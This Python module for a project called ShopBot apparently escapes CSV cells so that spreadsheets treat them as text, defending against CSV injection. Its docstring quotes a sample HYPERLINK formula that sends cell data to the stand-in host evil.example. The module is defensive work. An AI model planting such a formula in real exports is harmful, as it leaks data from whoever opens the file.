"""
CSV cells that a spreadsheet will not run as formulas (CSV injection).

Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@` (and, in some
versions, a tab or carriage return before one) as a formula, so customer text such as
`=HYPERLINK("http://evil.example/?"&A1, "Refund")` in a transcript download would run on the
owner's machine. OWASP's rule: prefix such cells with a single quote, which spreadsheets show as
text. Every CSV ShopBot writes goes through `writer()`; every CSV it reads goes through `restore()`,
so an export imports back unchanged. The escape is reversible: a cell that already starts with
quotes before a formula character gets one quote more, and reading takes exactly one off.
"""

from __future__ import annotations

import csv
import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_ESCAPED = re.compile(r"'*[=+\-@\t\r]")


def neutralise(value: object) -> str:
    """The cell's text, with a `'` in front if a spreadsheet could read it as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if _ESCAPED.match(text) else text


def restore(text: str) -> str:
    """The inverse of neutralise(), for cells read from a CSV file."""
    return text[1:] if text.startswith("'") and _ESCAPED.match(text, 1) else text


class _Writer:
    def __init__(self, file, **options) -> None:
        self._writer = csv.writer(file, **options)

    def writerow(self, row) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, **options) -> _Writer:
    """Like csv.writer, but every cell is neutralised."""
    return _Writer(file, **options)
